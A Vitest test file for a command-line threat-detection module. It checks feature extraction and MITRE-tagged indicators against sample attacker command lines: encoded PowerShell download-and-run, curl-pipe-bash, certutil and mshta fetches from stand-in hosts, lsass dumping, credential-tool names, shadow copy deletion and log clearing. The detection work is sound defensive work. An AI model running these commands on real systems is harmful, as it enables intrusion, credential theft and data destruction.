import { describe, expect, it } from 'vitest'
import { type CommandLineContext, commandLineFeatures } from '../../../src/analytics/text/command-line-features.ts'
import { commandLineIndicators } from '../../../src/analytics/text/command-line-indicators.ts'
import { commandLineTable } from '../../../src/analytics/text/command-line-table.ts'
import { Table } from '../../../src/lib/table.ts'
import { hasRealLogs, realLog } from '../real-logs.ts'
import { hostileTexts } from './hostile-texts.ts'

function indicators(line: string, context?: CommandLineContext): string[] {
  return commandLineFeatures(line, context).indicators.map(({ name }) => name)
}

describe('numbers of a command line', () => {
  it('are counted over its characters', () => {
    // 4 spaces of 17 characters; `aB1` has the one pair that goes from small to capital, of 1 + 2 + 1 + 1 pairs of letters.
    const features = commandLineFeatures('ab "x" -y aB1 cde')
    expect(features).toMatchObject({ length: 17, tokens: 5, longestToken: 3, carets: 0, backticks: 0, indicators: [] })
    expect(features.specialShare).toBeCloseTo(3 / 17, 12)
    expect(features.digitShare).toBeCloseTo(1 / 17, 12)
    expect(features.upperShare).toBeCloseTo(1 / 17, 12)
    expect(features.caseChanges).toBeCloseTo(1 / 4, 12)
  })

  it('have the entropy of their characters in bits', () => {
    expect(commandLineFeatures('aaaa').entropy).toBeCloseTo(0, 12)
    expect(commandLineFeatures('abab').entropy).toBeCloseTo(1, 12)
    expect(commandLineFeatures('abcd').entropy).toBeCloseTo(2, 12)
  })

  it('are 0 of nothing', () => {
    const { indicators: none, ...numbers } = commandLineFeatures('')
    expect(none).toEqual([])
    expect(Object.values(numbers).every((number) => number === 0)).toBe(true)
  })

  it('count what it names, encoded or not, once each', () => {
    const line = `a http://evil.com/x 10.0.0.1 10.0.0.1 b.org ${Buffer.from('see http://bad.com/yyyy').toString('base64')}`
    expect(commandLineFeatures(line)).toMatchObject({ urls: 2, addresses: 1, domains: 3, encodedParts: 1 })
    expect(commandLineFeatures("p^o^w 'a'+'b'+'c' I`EX").carets).toBe(2)
    expect(commandLineFeatures("'a'+'b'+'c'").concatenations).toBe(2)
    expect(commandLineFeatures('x 0123456789abcdef y').hexShare).toBeCloseTo(16 / 20, 12)
  })
})

describe('what attacks have in common', () => {
  const encoded = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://a.com/b')", 'utf16le').toString(
    'base64',
  )
  const seen: readonly (readonly [string, string, CommandLineContext?])[] = [
    ['encoded command', `powershell -nop -e ${encoded}`],
    ['encoded command', `pwsh /ec ${encoded}`],
    ['downloads and runs', `powershell -nop -enc ${encoded}`],
    ['Base64 is decoded in it', "[Convert]::FromBase64String('x')"],
    ['compressed code', 'New-Object IO.Compression.GzipStream'],
    ['encoded text', `echo ${Buffer.from('some text that is long enough').toString('base64')}`],
    ['joined or reversed literals', "&('IE'+'X')"],
    ['carets or backticks in words', 'p^ow^er^shell'],
    ['hidden window', 'powershell -w hidden -c x'],
    ['hidden window', 'powershell -WindowStyle 1 x'],
    ['execution policy bypassed', 'powershell -ep bypass x'],
    ['execution policy bypassed', 'powershell -ExecutionPolicy Unrestricted -File x.ps1'],
    ['PowerShell without profile, unattended', 'powershell.exe -NoProfile -NonInteractive x'],
    ['scan interface switched off', "'System.Management.Automation.'+'AmsiUtils'"],
    ['downloads and runs', 'curl -s http://a.com/x.sh | bash'],
    ['downloads', 'Invoke-WebRequest -Uri http://a.com'],
    ['certutil fetches or decodes', 'certutil -urlcache -split -f http://a.com/x'],
    ['bitsadmin transfers', 'bitsadmin /transfer j http://a.com/x c:\\x'],
    ['rundll32 runs a script or an odd library', 'rundll32.exe javascript:"..\\mshtml,x"'],
    ['regsvr32 loads a script', 'regsvr32 /s /u /i:http://a.com/x.sct scrobj.dll'],
    ['mshta runs a script', 'mshta http://a.com/x.hta'],
    ['msiexec installs from the network', 'msiexec /q /i http://a.com/x.msi'],
    ['code built or run by tools of .NET', 'C:\\x\\MSBuild.exe a.xml'],
    ['cmstp installs a profile', 'cmstp.exe /s x.inf'],
    ['forfiles or pcalua starts a program', 'pcalua -a calc.exe'],
    ['script engine over WMI', 'wmic os get /format:"http://a.com/x.xsl"'],
    ['process started over WMI', 'wmic /node:x process call create "cmd"'],
    ['command sent to another machine', 'psexec \\\\srv01 cmd'],
    ['output goes to an administrative share', 'cmd /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1'],
    ['copies to or runs from an administrative share', 'copy a.exe \\\\srv01\\c$\\a.exe'],
    ['memory of lsass is dumped', 'procdump.exe -accepteula -ma lsass.exe x.dmp'],
    ['names a tool for stealing credentials', 'sekurlsa::logonpasswords'],
    ['copies the account database', 'reg save HKLM\\SAM c:\\x'],
    ['searches for passwords', 'findstr /si password *.txt'],
    ['asks who and where it is', 'whoami /groups'],
    ['asks for accounts, groups or trusts', 'net user bob /domain'],
    ['asks for accounts, groups or trusts', 'nltest /domain_trusts'],
    ['asks for machines, addresses or processes', 'systeminfo'],
    ['uploads', 'curl.exe -T C:\\x.7z https://a.com/up'],
    ['packs files under a password', '7z.exe a -pQ3 -v200m C:\\x.7z E:\\shares'],
    ['makes an account or adds to a group', 'net user bob pw /add'],
    ['makes a scheduled task', 'schtasks /create /tn x /tr y'],
    ['makes or changes a service', 'sc \\\\srv create x binpath= y'],
    ['writes a run key', 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a'],
    ['replaces an accessibility tool', 'REG ADD "HKLM\\X\\Image File Execution Options\\sethc.exe" /v Debugger'],
    ['deletes copies or stops recovery', 'vssadmin delete shadows /all'],
    ['mines coins', 'x -a cryptonight -o stratum+tcp://p.com:3333'],
    ['clears logs or history', 'wevtutil cl Security'],
    ['switches off protection', 'netsh advfirewall set allprofiles state off'],
    ['forwards a port', 'netsh interface portproxy add v4tov4 x'],
    ['program in a folder for data', 'c:\\windows\\fonts\\conhost.exe zip'],
    ['two extensions', '"C:\\Users\\a\\happy.jpeg.exe"'],
    ['Office started a shell', 'cmd /c x', { parent: 'C:\\Office16\\WINWORD.EXE' }],
    [
      'web server or database started a shell',
      '/c whoami',
      { process: 'C:\\Windows\\System32\\cmd.exe', parent: 'sqlservr.exe' },
    ],
    ['WMI started a shell', 'powershell x', { parent: 'WmiPrvSE.exe' }],
    ['a script host started a shell', 'cmd /c x', { parent: 'mshta.exe' }],
    ['a remote service started a shell', '"cmd.exe"', { parent: 'PSEXESVC.exe' }],
    ['reader or browser started a shell', 'wscript x.js', { parent: 'AcroRd32.exe' }],
  ]

  it.each(seen.map(([name, line, context]) => ({ name, line, context })))('$name: $line', ({ name, line, context }) => {
    expect(indicators(line, context)).toContain(name)
  })

  it('each has a case above, a name of its own and a technique', () => {
    const cased = new Set(seen.map(([name]) => name))
    expect(commandLineIndicators.map(({ name }) => name).filter((name) => !cased.has(name))).toEqual([])
    expect(new Set(commandLineIndicators.map(({ name }) => name)).size).toBe(commandLineIndicators.length)
    for (const { technique } of commandLineIndicators) expect(technique).toMatch(/^T\d{4}(?:\.\d{3})?$/)
  })

  it('a file that is sent is not fetched', () => {
    expect(indicators('curl.exe -T C:\\x.7z https://a.com/up')).toEqual(['uploads'])
    expect(indicators('wget http://a.com/x -t 3 -T 5')).toEqual(['downloads'])
  })

  it.each([
    'C:\\Windows\\system32\\svchost.exe -k netsvcs',
    '"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe" /ua /installsource scheduler',
    'powershell.exe -ExecutionPolicy AllSigned -File C:\\x.ps1',
    'git status -z -uall',
    'net use m: \\\\fs01\\public',
    'grep -e password notes',
    'nc -e x',
    '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
    'ping 127.0.0.1 -n 20',
    'echo {"DownloadFileActionConfig":null}',
    'C:\\Windows\\System32\\rundll32.exe shell32.dll,SHCreateLocalServerRunDll {9BA05972}',
    'msbuildhelper.exe /x',
  ])('%s has none', (line) => {
    expect(indicators(line)).toEqual([])
  })

  it.each(Object.keys(hostileTexts))('are looked for in a million %s', (name) => {
    expect(commandLineFeatures(hostileTexts[name]!(2 ** 20)).length).toBe(2 ** 20)
  })
})

describe('a table with features', () => {
  const log = Table.fromRows(
    [
      { name: 'CommandLine', type: 'string' },
      { name: 'ParentProcessName', type: 'string' },
      { name: 'Urls', type: 'string' },
    ],
    [
      ['whoami', 'C:\\cmd.exe', 'old'],
      ['', '', 'old'],
      ['powershell -w hidden -ep bypass whoami', 'C:\\WINWORD.EXE', 'old'],
      ['whoami', 'C:\\cmd.exe', 'old'],
    ],
  )

  it('keeps its rows and columns, those of the same name replaced', () => {
    const table = commandLineTable(log).table
    expect(table.rowCount).toBe(4)
    expect(table.columns.filter(({ name }) => name === 'Urls')).toEqual([{ name: 'Urls', type: 'long' }])
    const rows = [...table.objects()]
    expect(rows[0]).toMatchObject({
      CommandLine: 'whoami',
      LineLength: 6,
      LineTokens: 1,
      IndicatorCount: 1,
      Techniques: ['T1033'],
    })
    expect(rows[0]!.Why).toBe('asks who and where it is: first questions of an intruder (T1033)')
    expect(rows[1]).toMatchObject({ LineLength: 0, LineEntropy: 0, IndicatorCount: 0, Indicators: [], Why: '' })
    expect(rows[2]).toMatchObject({ HiddenWindow: 1, PolicyBypass: 1, OddParent: 1, Urls: 0 })
    expect(rows[3]).toEqual(rows[0])
  })

  it('gives distinct lines, most indicators first, and leaves out those with fewer', () => {
    const table = commandLineTable(log, { distinct: true, least: 1 }).table
    expect(table.column('CommandLine')).toEqual(['powershell -w hidden -ep bypass whoami', 'whoami'])
    expect(table.column('Count')).toEqual([1, 2])
    expect(commandLineTable(log, { least: 1 }).table.column('CommandLine')).toEqual([
      'whoami',
      'powershell -w hidden -ep bypass whoami',
      'whoami',
    ])
  })

  it('says where a line was too long to be looked at whole', () => {
    const long = Table.fromRows([{ name: 'CommandLine', type: 'string' }], [['a '.repeat(40_000)]])
    expect(commandLineTable(long).notices).toEqual([
      '1 command lines are longer than 65536 characters: rules looked at their beginning.',
    ])
  })

  it('says which column is missing', () => {
    expect(() => commandLineTable(log.select(['Urls']))).toThrow('There is no column of command lines.')
    expect(() => commandLineTable(log, { parent: 'Father' })).toThrow('The table has no column `Father`')
    expect(commandLineTable(log.pick([])).table.rowCount).toBe(0)
  })

  it.skipIf(!hasRealLogs)('finds the made attack among 10,000 processes of two hosts', () => {
    if (!hasRealLogs) return
    const log = realLog('msticnb/SecurityEvent.jsonl', {
      CommandLine: 'string',
      NewProcessName: 'string',
      ParentProcessName: 'string',
    })
    const table = commandLineTable(log, { distinct: true, least: 1 }).table
    expect(table.rowCount).toBe(18)
    expect(String(table.column('CommandLine')[0])).toContain('powershell  -enc LU5vbmlu')
    // Of the eighteen only the updater's report to its maker is no part of the demonstration.
    expect(table.column('CommandLine').filter((line) => String(line).includes('GoogleUpdate'))).toHaveLength(1)
  })
})

describe('a table of command lines', () => {
  it('does not take a row without a line for one that has it', () => {
    const table = Table.fromRows(
      [{ name: 'CommandLine', type: 'dynamic' }],
      [[null], ['powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4AC4AYwBvAG0AKQA=']],
    )
    const { table: made } = commandLineTable(table)
    expect(made.column('LineLength')).toEqual([0, 76])
    expect(made.value(1, 'IndicatorCount')).toBeGreaterThan(0)
  })
})
